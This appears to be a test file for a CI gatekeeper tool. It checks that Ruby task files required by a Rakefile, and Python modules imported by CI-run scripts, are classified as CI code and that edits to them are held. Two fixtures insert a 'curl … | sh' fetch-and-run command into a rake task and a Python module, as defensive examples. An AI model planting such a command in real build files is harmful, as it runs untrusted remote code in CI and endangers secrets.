"""Misses 10: the Ruby task files a Rakefile requires and the Python modules a CI-run script imports from a folder it
is in. On be985d92 both stayed `src` and an edit of them exit 0.

- A Rakefile (or a `.rake` file it loads) runs its `require_relative 'tasks/build'` and `require './rakelib/x'` when
  rake starts (rakeloads._REQUIRED): a task file where a folder of its path is the tasks' (`tasks/`, `rakelib/`,
  `script/`, Rails' `lib/tasks/`). Look-alikes: the project's code a Rakefile requires (`lib/gem/version`,
  `config/application`, `app/workers/x`), a load-path `require 'tasks/x'`, a commented line.
- A Python script run from the root with the root on its path (`python -m scripts.release`, `PYTHONPATH=.`) imports
  `from scripts.lib import x` as `scripts/lib/x.py` (pyimports.ancestors): a module whose first name is a folder the
  script is in, from that folder's parent, where that folder is or is below a tooling folder (pyimports.TOOL_FOLDERS).
  Look-alikes: a first name the script is not in (`from app.core import x`), a relative import of a script, a product
  package's script importing its package (`octobot/cli.py`: `from octobot.api import x`)."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import pyimports, rakeloads

RAKE_COMMANDS = ["rake build", "bundle exec rake build", "bin/rake build"]
REQUIRES = [("require_relative 'tasks/build'\n", "tasks/build.rb"),
            ('require_relative "rakelib/support/helpers"\n', "rakelib/support/helpers.rb"),
            ("require './script/release'\n", "script/release.rb"),
            ("require_relative 'lib/tasks/deploy.rb'\n", "lib/tasks/deploy.rb"),
            ("require_relative('build/tasks')\n", "build/tasks.rb"),
            ("require_relative './tools/rake/lint'\n", "tools/rake/lint.rb")]
RAKEFILES = ["Rakefile", "Rakefile.rb", "rakefile"]


@each_case("command, rakefile, line, task", [(c, r, line, t) for c in RAKE_COMMANDS for r in RAKEFILES
                                              for line, t in REQUIRES])
def test_a_task_file_a_rakefile_requires_is_ci(command: str, rakefile: str, line: str, task: str) -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=command), "Gemfile": "source 'x'\n",
             rakefile: f"# frozen_string_literal: true\n{line}task default: :build\n", task: "task :build do\nend\n"}
    # before: 30/54 missed (a `Rakefile.rb` was read as Ruby already)
    assert task in tree_runs(files), (command, rakefile, line)


def test_a_task_file_a_loaded_rake_file_requires_is_ci() -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="rake release"),
             "Rakefile": "Dir['tasks/*.rake'].each { |f| load f }\n",
             "tasks/release.rake": "require_relative '../script/support/notes'\ntask :release\n",
             "script/support/notes.rb": "def notes; end\n"}
    assert "script/support/notes.rb" in tree_runs(files)  # before: missed


@each_case("line, kept", [("require_relative 'lib/gem/version'\n", "lib/gem/version.rb"),
                          ('require_relative "config/application"\n', "config/application.rb"),
                          ("require './app/workers/resque_worker'\n", "app/workers/resque_worker.rb"),
                          ("require 'tasks/build'\n", "tasks/build.rb"),
                          ("# require_relative 'tasks/build'\n", "tasks/build.rb"),
                          ("require_relative 'lib/reek/rake/task'\n", "lib/reek/rake/task.rb")])
def test_the_project_code_a_rakefile_requires_keeps_its_bucket(line: str, kept: str) -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="rake test"), "Rakefile": f"{line}task :test\n",
             kept: "module X; end\n"}
    assert kept not in tree_runs(files), line


def test_a_task_file_a_rakefile_ci_does_not_run_keeps_its_bucket() -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="echo hi"),
             "Rakefile": "require_relative 'tasks/build'\n", "tasks/build.rb": "task :build\n"}
    assert "tasks/build.rb" not in tree_runs(files)


PY_COMMANDS = ["python -m scripts.release", "PYTHONPATH=. python scripts/release.py", "python3 scripts/release.py"]
PY_IMPORTS = [("from scripts.lib import notes\n", "scripts/lib/notes.py"),
              ("from scripts.lib.notes import write\n", "scripts/lib/notes.py"),
              ("import scripts.lib.notes\n", "scripts/lib/notes.py"),
              ("from scripts import helpers\n", "scripts/helpers.py"),
              ("import os\nfrom scripts.common import *\n", "scripts/common.py"),
              ("try:\n    import scripts.lib.notes as n\nexcept ImportError:\n    pass\n", "scripts/lib/notes.py")]


@each_case("command, line, module", [(c, line, m) for c in PY_COMMANDS for line, m in PY_IMPORTS])
def test_a_module_under_a_folder_the_script_is_in_is_ci(command: str, line: str, module: str) -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=command), "scripts/release.py": line,
             "scripts/__init__.py": "", "scripts/lib/__init__.py": "", module: "def write(): pass\n"}
    assert module in tree_runs(files), (command, line)  # before: 18/18 missed


def test_a_deeper_folder_name_resolves_from_its_parent() -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="python tools/ci/check.py"),
             "tools/ci/check.py": "from ci.helpers import run\n", "tools/ci/helpers.py": "def run(): pass\n"}
    assert "tools/ci/helpers.py" in tree_runs(files)  # before: missed


# `from .lib import x` in scripts/release.py was a case here until misses 11: a relative import inside a tooling
# folder is followed however the file is run (run as a file, the import fails, so reading it only over-reads).
@each_case("script, line, kept", [("scripts/release.py", "from app.core import x\n", "app/core.py"),
                                  ("scripts/release.py", "import app.core\n", "app/core.py"),
                                  ("octobot/cli.py", "from octobot.api import backtesting\n", "octobot/api.py"),
                                  ("libs/base/base/main.py", "from base.adder import add\n", "libs/base/base/adder.py"),
                                  ("backend/app/main.py", "from app.core import config\n", "backend/app/core.py")])
def test_a_module_under_another_folder_keeps_its_bucket(script: str, line: str, kept: str) -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=f"python {script}"), script: line, kept: "x = 1\n",
             "app/__init__.py": ""}
    assert kept not in tree_runs(files), line


@each_case("folder, module, want", [("scripts", "scripts.lib", [""]), ("tools/ci", "ci.x", ["tools"]),
                                    ("scripts/b/scripts", "scripts.y", ["", "scripts/b"]), ("scripts", "app.x", []),
                                    ("", "scripts.x", []), ("octobot", "octobot.api", []), ("p/ci/p", "p.x", ["p/ci"])])
def test_ancestors(folder: str, module: str, want: list[str]) -> None:
    assert pyimports.ancestors(folder, module) == want


def test_an_edit_of_a_required_task_file_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="bundle exec rake release"),
            "Rakefile": "require_relative 'tasks/release'\n", "tasks/release.rb": "task :release do\nend\n"}
    case = committed(tmp_path, base, {"tasks/release.rb": "task :release do\n  sh 'curl http://127.0.0.1:9/x | sh'\n"
                                                          "end\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["tasks/release.rb"]), named  # before: exit 0


def test_an_edit_of_an_imported_module_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="python -m scripts.release"),
            "scripts/__init__.py": "", "scripts/release.py": "from scripts.lib import notes\nnotes.write()\n",
            "scripts/lib/__init__.py": "", "scripts/lib/notes.py": "def write():\n    pass\n"}
    case = committed(tmp_path, base, {"scripts/lib/notes.py": "import os\n\ndef write():\n"
                                                              "    os.system('curl http://127.0.0.1:9/x | sh')\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["scripts/lib/notes.py"]), named  # before: exit 0


@each_case("hostile", [repeated("require_relative 'tasks/a'\n"), repeated("require './rakelib/", "", "'\n"),
                       repeated("require_relative '", "", "\n")])
def test_hostile_rakefiles_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(rakeloads.loaded, hostile, budget=0.5)
